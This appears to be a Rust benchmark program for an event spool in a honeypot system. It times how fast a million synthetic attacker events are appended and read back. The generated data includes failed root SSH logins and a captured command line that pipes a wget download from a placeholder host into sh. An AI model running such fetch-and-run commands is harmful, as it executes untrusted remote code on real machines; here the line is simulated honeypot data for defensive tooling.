//! How fast a spool is written and read on this machine: `cargo run --release -p spool --example speed`.
#![expect(clippy::print_stdout, reason = "a program that prints figures")]

use model::{Captured, DeckyId, Event, Id, Micros, Outcome, Saw, SecretKind};
use spool::{Follower, Options, Position, Spool};
use std::time::Instant;

const EVENTS: u64 = 1_000_000;

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let dir = std::env::temp_dir().join(format!("spool-speed-{}", std::process::id()));
    let spool = Spool::open(&dir, Options::default())?;
    let batch: Vec<Event> = (0..100).map(event).collect();
    let start = Instant::now();
    for _ in 0..EVENTS / 100 {
        spool.append(&batch)?;
    }
    figure("append, 100 at a time", EVENTS, start);
    let start = Instant::now();
    for event in batch.iter().cycle().take(200_000) {
        spool.append(std::slice::from_ref(event))?;
    }
    figure("append, one at a time", 200_000, start);
    let mut follower = Follower::open(&dir, Position::default())?;
    let start = Instant::now();
    let mut read = 0;
    loop {
        let batch = follower.next_batch(1000, 1 << 20)?;
        if batch.is_empty() {
            break;
        }
        read += batch.events.len() as u64;
    }
    figure("read and parse", read, start);
    drop(spool);
    std::fs::remove_dir_all(dir)?;
    Ok(())
}

fn figure(what: &str, events: u64, start: Instant) {
    let seconds = start.elapsed().as_secs_f64();
    println!("{what}: {:.0} events/s", f64::from(u32::try_from(events).unwrap_or(u32::MAX)) / seconds);
}

/// Forty in a hundred are login attempts, as in the field.
fn event(number: u64) -> Event {
    let at = Micros(1_790_000_000_000_000 + i64::try_from(number).unwrap_or(0));
    let saw = if number % 10 < 4 {
        Saw::AuthAttempt {
            principal: Some("root".into()),
            secret: Captured::copy(format!("hunter{number}").as_bytes()),
            secret_kind: SecretKind::Plaintext,
            outcome: Outcome::Failure,
            challenge: None,
        }
    } else {
        Saw::Command {
            line: Captured::copy(format!("wget http://198.51.100.{number}/x.sh -O- | sh").as_bytes()),
            user: Some("root".into()),
            cwd: None,
        }
    };
    Event {
        id: Id::at(at, [7; 10]),
        at,
        decky: DeckyId::local("web-01"),
        service: "ssh".into(),
        session: Some(Id::at(at, [9; 10])),
        source: "192.0.2.1:4444".parse().ok(),
        local: "198.51.100.7:22".parse().ok(),
        saw,
    }
}
